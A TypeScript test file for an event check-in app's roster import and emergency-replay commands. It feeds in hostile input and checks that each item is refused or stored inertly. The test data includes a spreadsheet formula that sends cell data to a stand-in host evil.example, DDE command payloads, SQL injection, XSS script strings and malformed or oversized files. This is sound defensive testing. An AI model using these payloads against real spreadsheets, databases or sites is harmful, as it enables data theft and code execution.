/**
 * Bad input through every import: roster files (CSV and XLSX) with formula cells, injection
 * strings, Unicode edge cases, damaged and hostile files; emergency-export files given to
 * `replay`. Each is answered with a clear message and exit code, a refused file stores nothing,
 * a half-good file stores exactly its good rows, and what is stored reads back exactly as typed
 * and goes out of the CSV export defused.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { importRosterCommand } from '../../src/server/cli/commands/importRoster';
import { replayCommand } from '../../src/server/cli/commands/replay';
import { DATABASES, startTestServer, type TestServer } from './harness';
import { checkinMutation, countRows, pairDevice, runCli, runCliLine, tempDir, utf8WithBom, type PairedDevice } from './support';

const HEADER = ['编号', '姓名', '公司', '手机', '邮箱', '备注'];

function csv(rows: readonly string[][]): Uint8Array {
  return utf8WithBom(rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\r\n') + '\r\n');
}

type XlsxCell = string | { formula: string; result?: string };

async function xlsx(rows: readonly XlsxCell[][]): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('名单');
  rows.forEach((row, r) => row.forEach((cell, c) => (sheet.getCell(r + 1, c + 1).value = cell as ExcelJS.CellValue)));
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

describe.each(DATABASES)('bad input through the imports, %s', (kind) => {
  let server: TestServer;
  let files: ReturnType<typeof tempDir>;

  beforeAll(async () => {
    server = await startTestServer(kind);
    files = tempDir();
  });
  afterAll(async () => {
    files?.remove();
    await server?.close();
  });

  async function importFile(name: string, bytes: Uint8Array, ...flags: string[]) {
    const run = await runCli(server, importRosterCommand, [await files.write(name, bytes), '--json', ...flags], files.dir);
    const report = JSON.parse(run.out.join('\n') || '{}') as { ok: boolean; message?: string; problems: Array<{ line: number; message: string }>; inserted?: number };
    return { ...run, report };
  }

  const attendees = () => countRows(server.db, 'attendees');

  describe('roster files', () => {
    beforeEach(async () => {
      await server.db.query('DELETE FROM visitor_profiles');
      await server.db.query('DELETE FROM persons');
      await server.db.query('DELETE FROM attendees');
    });

    it('refuses formula cells in a CSV (= and @ functions, DDE) by line and column; the other rows are imported', async () => {
      const { code, report } = await importFile(
        'formulas.csv',
        csv([
          HEADER,
          ['F-1', '王五', '华南机械', '13800138001', 'wang5@example.com', ''],
          ['F-2', '=HYPERLINK("http://evil.example/?"&A1,"点我")', 'Evil', '', '', ''],
          ['F-3', '赵六', "=cmd|' /C calc'!A0", '', '', ''],
          ['F-4', '钱七', 'Acme', '', '', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
          ['F-5', '孙八', '+86 公司', '+86 138 0013 8005', '', '@zhangwei (WeChat)'],
        ]),
      );
      expect(code).toBe(2);
      expect(report.ok).toBe(true);
      expect(report.problems.map((p) => p.line)).toEqual([3, 4, 5]);
      expect(report.problems[0]?.message).toMatch(/column 2 \(姓名\) holds a spreadsheet formula \(=HYPERLINK.*save the file with values only/);
      expect(report.problems[1]?.message).toMatch(/column 3 \(公司\)/);
      expect(report.problems[2]?.message).toMatch(/column 6 \(备注\)/);
      const { rows } = await server.db.query<{ ref: string; company: string; extra: Record<string, string> }>('SELECT ref, company, extra FROM attendees ORDER BY ref');
      expect(rows.map((r) => r.ref)).toEqual(['F-1', 'F-5']);
      // "+86 …" and an @handle are text, not formulas.
      expect(rows[1]).toMatchObject({ company: '+86 公司', extra: { 备注: '@zhangwei (WeChat)' } });
    });

    it('refuses XLSX formula cells, with or without a cached result, and imports nothing of them with --strict', async () => {
      const book = await xlsx([
        HEADER,
        ['X-1', '周九', '华东电子', '13800138009', '', ''],
        ['X-2', { formula: 'CONCAT("吴","十")', result: '吴十' }, 'Formula Ltd.', '', '', ''],
        ['X-3', '郑一', { formula: 'B2&"有限公司"' }, '', '', ''],
      ]);
      const strict = await importFile('formulas.xlsx', book, '--strict');
      expect(strict.code).toBe(1);
      expect(strict.report).toMatchObject({ ok: false, message: expect.stringMatching(/--strict/) });
      expect(strict.report.problems.map((p) => p.line)).toEqual([3, 4]);
      expect(strict.report.problems[0]?.message).toMatch(/=CONCAT\("吴","十"\)/);
      expect(await attendees()).toBe(0);

      const lenient = await importFile('formulas.xlsx', book);
      expect(lenient.code).toBe(2);
      const { rows } = await server.db.query<{ ref: string; name: string }>('SELECT ref, name FROM attendees');
      expect(rows).toEqual([{ ref: 'X-1', name: '周九' }]);
    });

    it('stores emoji, right-to-left, zero-width, SQL and script text exactly as typed, and defuses them in the CSV export', async () => {
      const hostile = [
        ['U-1', '张伟 👩‍👩‍👧‍👦', 'مرحبا שלום Ltd.', '', 'u1@example.com', ''],
        ['U-2', 'Zero\u200Bwidth\u200DName', "Robert'); DROP TABLE attendees;--", '', 'u2@example.com', ''],
        ['U-3', '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', '', 'u3@example.com', "' OR '1'='1"],
        ['U-4', 'Åström'.normalize('NFD'), '-', '', 'u4@example.com', '+SUM(1)'],
      ];
      const { code, report } = await importFile('hostile.csv', csv([HEADER, ...hostile]));
      expect(code, JSON.stringify(report)).toBe(0);
      const { rows } = await server.db.query<{ ref: string; name: string; company: string; extra: Record<string, string> }>('SELECT ref, name, company, extra FROM attendees ORDER BY ref');
      expect(rows.map((r) => [r.ref, r.name, r.company])).toEqual(hostile.map(([ref, name, company]) => [ref, (name ?? '').normalize('NFC'), company]));
      expect(rows[2]?.extra).toEqual({ 备注: "' OR '1'='1" });
      // The table is still there, and the export opens in Excel without running anything.
      expect(await attendees()).toBe(4);
      const exported = await runCliLine(server, ['export', '--what', 'badges', '--format', 'csv']);
      expect(exported.code).toBe(0);
      const text = exported.out.join('\n');
      expect(text).toContain(",'-,");
      expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
    });

    it('refuses damaged and hostile files whole, each with a sentence the organizer can act on', async () => {
      const cases: Array<[string, Uint8Array, RegExp]> = [
        ['empty.csv', new Uint8Array(), /empty/],
        ['binary.csv', Uint8Array.from({ length: 4096 }, (_, i) => (i * 37) % 256), /not a text file|neither UTF-8 nor GBK/],
        ['truncated.xlsx', (await xlsx([HEADER, ['T-1', '王', '', '', '', '']])).slice(0, 600), /could not be read|damaged/],
        ['fake.xlsx', new TextEncoder().encode('姓名\n王\n'), /not an Excel workbook/],
        ['old.xls', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]), /old Excel \.xls/],
        ['quotes.csv', utf8WithBom('姓名,公司\r\n"王,"未闭合\r\n'), /unbalanced quotes/],
        ['noname.csv', csv([['Company', 'Email'], ['Acme', 'a@example.com']]), /missing required column/],
        ['zip-bomb-ish.xlsx', Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...new Array(2048).fill(0)]), /could not be read|damaged|no rows/],
      ];
      for (const [name, bytes, message] of cases) {
        const { code, report, err } = await importFile(name, bytes);
        expect(code, name).toBe(1);
        expect(report.ok, name).toBe(false);
        expect(report.message ?? err.join(' '), name).toMatch(message);
        expect(await attendees(), name).toBe(0);
      }
    });

    it('refuses 10,000-character names and cells by line, and keeps the good rows', async () => {
      const { code, report } = await importFile(
        'long.csv',
        csv([HEADER, ['L-1', '名'.repeat(10_000), '', '', '', ''], ['L-2', '正常', '', '', '', ''], ['L-3', '李', '', '', '', 'x'.repeat(10_000)]]),
      );
      expect(code).toBe(2);
      expect(report.problems.map((p) => p.line)).toEqual([2, 4]);
      expect(report.problems[0]?.message).toMatch(/10000 characters long \(at most 500\)/);
      expect((await server.db.query('SELECT ref FROM attendees')).rows).toEqual([{ ref: 'L-2' }]);
    });
  });

  describe('emergency export files (replay)', () => {
    let desk: PairedDevice;
    beforeAll(async () => {
      desk = await pairDevice(server, { role: 'desk' });
    });

    async function replay(name: string, content: string) {
      return runCli(server, replayCommand, [await files.write(name, content), '--json'], files.dir);
    }

    it('refuses files that are not JSON, not an export, or nested too deep, and stores nothing', async () => {
      const before = await countRows(server.db, 'mutations');
      const cases: Array<[string, string, RegExp]> = [
        ['broken.json', '{"format": "showfloor-unsynced-v1", "mutations": [', /cannot read/],
        ['other.json', JSON.stringify({ hello: 'world' }), /not a Showfloor export/],
        ['wrong-types.json', JSON.stringify({ format: 'showfloor-unsynced-v1', device: 'desk', mutations: 'all' }), /not a Showfloor export/],
        ['stranger.json', JSON.stringify({ format: 'showfloor-unsynced-v1', device: { deviceId: '0190a0a0-0000-7000-8000-000000000000', deviceName: 'Ghost' }, mutations: [] }), /not known to this server/],
        ['deep.json', `{"format":"showfloor-unsynced-v1","device":${'['.repeat(100_000)}${']'.repeat(100_000)},"mutations":[]}`, /not a Showfloor export/],
      ];
      for (const [name, content, message] of cases) {
        const run = await replay(name, content);
        expect(run.code, name).toBe(1);
        expect(run.err.join('\n'), name).toMatch(message);
      }
      expect(await countRows(server.db, 'mutations')).toBe(before);
    });

    it('delivers the good records of a file and rejects the bad ones by reason, however hostile their text', async () => {
      const good = [checkinMutation(desk, { name: "Robert'); DROP TABLE checkins;--", company: '<script>alert(1)</script>' }), checkinMutation(desk, { name: '张伟 👩‍👩‍👧‍👦' })];
      const bad = [{ ...checkinMutation(desk), data: 'DEEP' }, { ...checkinMutation(desk), type: 'checkin\u0000' }, 'not a mutation'];
      // A NUL in a scanned code is not bad: stored with U+FFFD there, the code kept escaped (securityDeadLetters.test.ts).
      const nul = checkinMutation(desk, { code: 'nul\u0000code' });
      // 50,000 levels of nesting in one record's data (written out by hand: JSON.stringify would overflow).
      const file = JSON.stringify({ format: 'showfloor-unsynced-v1', device: { deviceId: desk.deviceId, deviceName: desk.name }, mutations: [...good, ...bad, nul] }).replace(
        '"DEEP"',
        `${'['.repeat(50_000)}"bottom"${']'.repeat(50_000)}`,
      );
      const run = await replay('mixed.json', file);
      expect(run.code, run.err.join('\n')).toBe(2);
      const summary = JSON.parse(run.out.join('')) as { applied: number; rejected: number; rejections: Array<{ error: string }> };
      expect(summary).toMatchObject({ applied: 3, rejected: 3 });
      expect(summary.rejections.every((r) => r.error.length > 0)).toBe(true);
      const { rows } = await server.db.query<{ name: string; company: string }>('SELECT name, company FROM checkins WHERE id = ANY($1::uuid[]) ORDER BY name', [
        good.map((m) => (m.data as { id: string }).id),
      ]);
      expect(rows).toEqual([
        { name: "Robert'); DROP TABLE checkins;--", company: '<script>alert(1)</script>' },
        { name: '张伟 👩‍👩‍👧‍👦', company: 'Acme 科技' },
      ]);
      // Replaying the same file again stores nothing twice.
      const again = JSON.parse((await replay('mixed.json', file)).out.join('')) as { applied: number; duplicate: number };
      expect(again).toMatchObject({ applied: 0, duplicate: 3 });
    });
  });
});
